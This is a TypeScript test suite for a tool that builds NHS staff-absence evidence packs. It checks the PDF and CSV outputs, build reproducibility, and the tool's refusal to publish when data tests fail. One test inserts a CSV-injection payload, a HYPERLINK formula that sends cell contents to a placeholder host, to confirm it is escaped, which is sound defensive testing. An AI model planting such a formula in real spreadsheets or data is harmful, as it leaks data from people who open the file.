/**
 * Quarterly evidence packs built from a real warehouse holding the 2023 NHS England benchmark data
 * (a year of months): the PDF names every section and the headline figures (extracted with
 * pdftotext), index.html links the chart files, every output passes the disclosure checker, manifest
 * and CSVs are byte-identical across builds and match a golden manifest, every scope kind builds, and a
 * warehouse failing a data test refuses to publish.
 */
import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { dashboardsCommand } from "../../cli/commands/dashboards.js";
import { packCommand } from "../../cli/commands/pack.js";
import { UsageError } from "../../core/errors.js";
import { DataTestsFailedError } from "../../dashboards/dashboard-errors.js";
import { checkOutputs } from "../../dashboards/disclosure/output-checker.js";
import {
  buildPack,
  type PackBuildResult,
  type PackInputs,
  preparePackInputs,
} from "../../dashboards/pack/build-pack.js";
import type { PackManifest } from "../../dashboards/pack/pack-manifest.js";
import { parseQuarter } from "../../dashboards/pack/pack-quarter.js";
import { parseScope } from "../../dashboards/pack/pack-scope.js";
import { referenceWarehouse } from "../support/reference-warehouse.js";
import { rows, type TestWarehouse } from "../transforms/warehouse-fixture.js";

const GOLDEN = join(import.meta.dirname, "golden", "pack-england-2023-Q4.manifest.json");
const q4 = parseQuarter("2023-Q4");

function pdfText(path: string): string {
  // Lines are joined: the assertions are about words, not where the PDF wraps them.
  return execFileSync("pdftotext", [path, "-"], { encoding: "utf8" }).replace(/\s+/g, " ");
}

function pdfPages(path: string): number {
  const info = execFileSync("pdfinfo", [path], { encoding: "utf8" });
  return Number(/^Pages:\s+(\d+)/m.exec(info)?.[1] ?? "0");
}

/**
 * The manifest without the bytes that may legitimately differ between machines: the PDF and PNG
 * renderings, and index.html, whose contents state the PDF pages Chromium laid the sections on.
 */
function goldenView(manifest: PackManifest): unknown {
  return {
    ...manifest,
    files: manifest.files.map((f) => (/\.(pdf|png|html)$/.test(f.path) ? { path: f.path } : f)),
  };
}

describe("ohwb pack on the 2023 NHS benchmark warehouse", () => {
  let warehouse: TestWarehouse;
  let inputs: PackInputs;
  let out: string;
  let first: PackBuildResult;
  let second: PackBuildResult;

  beforeAll(async () => {
    warehouse = await referenceWarehouse(); // the 2023 benchmark, transformed as of 2023-12-31
    out = mkdtempSync(join(tmpdir(), "ohwb-pack-"));
    inputs = await preparePackInputs(warehouse.connection, "reference-2023.duckdb");
    first = await buildPack(warehouse.connection, inputs, parseScope("england"), q4, join(out, "a"));
    second = await buildPack(warehouse.connection, inputs, parseScope("england"), q4, join(out, "b"));
  }, 240_000);
  afterAll(() => {
    warehouse?.dispose();
    if (out) rmSync(out, { recursive: true, force: true });
  });

  it("puts the England Q4 2023 rate, computed from the quarter's sums, in the PDF and every section title", async () => {
    const [expected] = await rows(
      warehouse.connection,
      `SELECT round(sum(fte_days_lost) / sum(fte_days_available) * 100, 2)::DOUBLE AS rate
       FROM mart_absence_benchmark
       WHERE level = 'england' AND staff_group = 'All staff groups' AND month_end BETWEEN '2023-10-01' AND '2023-12-31'`,
    );
    const rate = `${Number(expected?.rate).toFixed(2)}%`;
    // Oct–Dec 2023 from the sums; domain notes §9 give December alone as 5.52%, which the SPC page names.
    expect(rate).toBe("5.38%");
    const pdf = join(first.dir, "pack.pdf");
    const text = pdfText(pdf);
    expect(text).toContain(rate);
    // the method names the as-of date and the publication months
    const method = first.content.sections.find((s) => s.id === "method")?.paragraphs.join(" ") ?? "";
    expect(method).toContain("Data as of 2023-12-31.");
    expect(method).toContain("monthly publications Jan 2023 to Dec 2023");
    // the SPC section's summary table of Making Data Count icons
    const icons = readFileSync(join(first.dir, "data", "mdc-icons.csv"), "utf8")
      .trim()
      .split("\n");
    expect(icons[0]).toBe(
      "section,measure,variation_icon,assurance_icon,target_pct,target_source,points,baseline_months,rebased_at,short_series",
    );
    expect(icons[1]).toMatch(
      /^spc,sickness absence rate, all staff groups|^spc,"sickness absence rate, all staff groups"/,
    );
    expect(icons[1]).toMatch(
      /,(common_cause|improvement_high|improvement_low|concern_high|concern_low),none \(no target\),,,12,12,,yes$/,
    );
    expect(text).toContain(`The sickness absence rate for England in Q4 2023 (Oct–Dec) was ${rate}`);
    expect(text).toContain("Latest month (Dec 2023): 5.52%");
    expect(text).toContain("Q3 2023 (Jul–Sep)"); // change against the previous quarter
    expect(text).toContain("no published figures for the same quarter last year"); // 2022 is not loaded
    // Cover and tiles, contents, then the sections flowing (pack-pdf.test.ts checks pages and numbers).
    expect(pdfPages(pdf)).toBeGreaterThanOrEqual(3);
    for (const section of first.content.sections) {
      expect(text).toContain(section.title.split(":")[0]);
    }
    expect(first.content.headline[0]?.value).toBe(rate);
  });

  it("writes index.html referencing every chart file (SVG and PNG), which exist", () => {
    const html = readFileSync(join(first.dir, "index.html"), "utf8");
    expect(first.content.charts.map((c) => c.id)).toEqual(
      expect.arrayContaining(["absence-spc", "benchmark-funnel", "staff-groups"]),
    );
    for (const chart of first.content.charts) {
      for (const ext of ["svg", "png"]) {
        expect(html).toContain(`charts/${chart.id}.${ext}`);
        expect(existsSync(join(first.dir, "charts", `${chart.id}.${ext}`))).toBe(true);
      }
    }
    expect(html).toContain('href="pack.pdf"');
  });

  it("passes the disclosure output checker, CSVs included", () => {
    expect(checkOutputs(first.dir)).toEqual([]);
    const csvs = first.manifest.files.filter((f) => f.path.endsWith(".csv"));
    expect(csvs.map((f) => f.path)).toEqual(
      expect.arrayContaining([
        "data/absence-quarter.csv",
        "data/absence-monthly.csv",
        "data/benchmark-peers.csv",
      ]),
    );
    for (const csv of csvs) expect(csv.rows).toBeGreaterThan(0);
  });

  it("gives byte-identical manifest.json and CSVs across two builds, with no timestamps or absolute paths", () => {
    const manifestA = readFileSync(join(first.dir, "manifest.json"));
    expect(manifestA.equals(readFileSync(join(second.dir, "manifest.json")))).toBe(true);
    for (const file of first.manifest.files.filter((f) => f.path.endsWith(".csv"))) {
      expect(readFileSync(join(first.dir, file.path)).equals(readFileSync(join(second.dir, file.path)))).toBe(
        true,
      );
    }
    const text = manifestA.toString("utf8");
    expect(text).not.toContain(out);
    expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}/);
    const manifest = JSON.parse(text) as PackManifest;
    expect(manifest.inputs.warehouse).toBe("reference-2023.duckdb");
    expect(manifest.inputs.schemaVersion).toBeGreaterThan(0);
    expect(manifest.inputs.dataTests.failed).toBe(0);
    expect(manifest.inputs.tablesRead.mart_absence_benchmark).toBeGreaterThan(1000);
    expect(manifest.assumptions.quarter).toBe("calendar (Q1 = Jan–Mar)");
  });

  it("matches the golden manifest (CSV and SVG hashes and structure; PDF, PNG and HTML bytes excluded)", () => {
    const actual = goldenView(
      JSON.parse(readFileSync(join(first.dir, "manifest.json"), "utf8")) as PackManifest,
    );
    if (process.env.UPDATE_GOLDEN === "1") writeFileSync(GOLDEN, `${JSON.stringify(actual, null, 2)}\n`);
    expect(actual).toEqual(JSON.parse(readFileSync(GOLDEN, "utf8")));
  });

  it("builds region, ICS and organisation packs that pass the checker", async () => {
    const [region] = await rows(
      warehouse.connection,
      "SELECT min(code) AS code FROM mart_absence_benchmark WHERE level = 'region'",
    );
    const [ics] = await rows(
      warehouse.connection,
      "SELECT min(code) AS code FROM mart_absence_benchmark WHERE level = 'ics'",
    );
    const [org] = await rows(
      warehouse.connection,
      `SELECT code FROM mart_absence_benchmark WHERE level = 'organisation' AND staff_group = 'All staff groups'
         AND month_end = '2023-12-31' AND NOT suppressed ORDER BY code LIMIT 1`,
    );
    for (const scope of [`region:${region?.code}`, `ics:${ics?.code}`, `org:${org?.code}`]) {
      const dir = join(out, scope.replace(":", "-"));
      const built = await buildPack(warehouse.connection, inputs, parseScope(scope), q4, dir);
      expect(checkOutputs(dir)).toEqual([]);
      const text = pdfText(join(dir, "pack.pdf"));
      expect(text).toContain(built.content.headline[0]?.value as string);
      expect(text).toContain("England's rate for the quarter was 5.38%");
      expect(text).toMatch(/ranked \d+ of \d+/);
      expect(pdfPages(join(dir, "pack.pdf"))).toBeGreaterThanOrEqual(3);
      for (const section of built.content.sections) expect(text).toContain(section.title);
      if (scope.startsWith("ics:")) await expectOrganisationsNamed(String(ics?.code), built.content.sections);
    }
  }, 120_000);

  /** The staff-groups paragraph's highest and lowest groups carry "from n of N organisations" exactly when their quarter's sums leave some out. */
  async function expectOrganisationsNamed(
    code: string,
    sections: readonly { id: string; paragraphs: string[] }[],
  ) {
    const paragraph = sections.find((x) => x.id === "staff-groups")?.paragraphs[0] ?? "";
    const named = [
      ...paragraph.matchAll(
        /(highest|lowest) [a-z ]*?(?:was )?([A-Z][^()]*?) at [\d.]+%(?: \(from (\d+) of (\d+) organisations\))?/g,
      ),
    ];
    expect(
      named.map((m) => m[1]),
      paragraph,
    ).toEqual(["highest", "lowest"]);
    for (const m of named) {
      const counts = await rows(
        warehouse.connection,
        `SELECT organisations_summed AS n, organisations_published AS of FROM mart_published_absence_organisations
         WHERE level = 'ics' AND code = '${code}' AND staff_group = '${m[2]}'
           AND month_end BETWEEN DATE '2023-10-01' AND DATE '2023-12-31'
         ORDER BY organisations_summed / organisations_published LIMIT 1`,
      );
      const fewest = counts[0];
      const partial = fewest !== undefined && Number(fewest.n) < Number(fewest.of);
      expect(
        m[3] === undefined ? undefined : [Number(m[3]), Number(m[4])],
        `${m[2]} in "${paragraph}"`,
      ).toEqual(partial ? [Number(fewest?.n), Number(fewest?.of)] : undefined);
    }
  }

  it("writes a formula-like organisation name into its CSVs as text (CSV injection)", async () => {
    const [org] = await rows(
      warehouse.connection,
      `SELECT code FROM mart_absence_benchmark WHERE level = 'organisation' AND staff_group = 'All staff groups'
         AND month_end = '2023-12-31' AND NOT suppressed ORDER BY code LIMIT 1`,
    );
    const hostile = '=HYPERLINK("http://x.example/?"&A1,"Trust")';
    const renamed: PackInputs = {
      ...inputs,
      source: {
        ...inputs.source,
        rows: inputs.source.rows.map((r) => (r.code === org?.code ? { ...r, name: hostile } : r)),
      },
    };
    const dir = join(out, "csv-injection");
    await buildPack(warehouse.connection, renamed, parseScope(`org:${org?.code}`), q4, dir);
    const csv = readFileSync(join(dir, "data", "absence-quarter.csv"), "utf8");
    expect(csv).toContain(`"'${hostile.replaceAll('"', '""')}"`);
    // No field of any line starts a formula.
    for (const line of csv.split("\n")) expect(line).not.toMatch(/(^|,)[=+@]/);
  }, 120_000);

  it("rejects bad quarters and scopes with a typed error", () => {
    expect(() => parseQuarter("2025-Q5")).toThrow(UsageError);
    expect(() => parseQuarter("2025Q1")).toThrow(UsageError);
    expect(() => parseScope("trust:RRK")).toThrow(UsageError);
    expect(parseScope("org:rrk")).toMatchObject({ level: "organisation", code: "RRK", key: "org:RRK" });
  });

  it("`ohwb pack` builds through the command, and refuses a warehouse that fails a data test, naming it", async () => {
    warehouse.warehouse.close();
    const err = vi.spyOn(process.stderr, "write").mockImplementation(() => true);
    const stdout = vi.spyOn(process.stdout, "write").mockImplementation(() => true);
    try {
      const dir = join(out, "cli");
      const code = await packCommand.run([
        "--warehouse",
        warehouse.path,
        "--quarter",
        "2023-Q4",
        "--scope",
        "england",
        "--out",
        dir,
      ]);
      expect(code).toBe(0);
      expect(readFileSync(join(dir, "manifest.json"), "utf8")).toContain('"warehouse": "warehouse.duckdb"');
      // Break a unique key: the duplicate row makes the mart's unique key test fail.
      const { openWarehouse } = await import("../../warehouse/open-warehouse.js");
      const broken = await openWarehouse(warehouse.path);
      await broken.connection.run(
        "INSERT INTO mart_absence_benchmark SELECT * FROM mart_absence_benchmark WHERE level = 'england' LIMIT 1",
      );
      broken.close();
      const refused = join(out, "refused");
      const attempt = packCommand.run([
        "--warehouse",
        warehouse.path,
        "--quarter",
        "2023-Q4",
        "--scope",
        "england",
        "--out",
        refused,
      ]);
      await expect(attempt).rejects.toBeInstanceOf(DataTestsFailedError);
      await expect(
        packCommand.run([
          "--warehouse",
          warehouse.path,
          "--quarter",
          "2023-Q4",
          "--scope",
          "england",
          "--out",
          refused,
        ]),
      ).rejects.toMatchObject({
        failingTests: expect.arrayContaining([
          "mart_absence_benchmark: unique month_end, level, code, staff_group",
        ]),
      });
      expect(existsSync(join(refused, "pack.pdf"))).toBe(false);
      // the dashboard site is refused the same way, and writes nothing
      const site = join(out, "refused-site");
      await expect(
        dashboardsCommand.run(["build", "--warehouse", warehouse.path, "--out", site]),
      ).rejects.toThrow(
        /Refusing to publish the dashboard site: the warehouse warehouse\.duckdb fails 1 data test/,
      );
      expect(existsSync(site)).toBe(false);
    } finally {
      err.mockRestore();
      stdout.mockRestore();
    }
  }, 120_000);
});
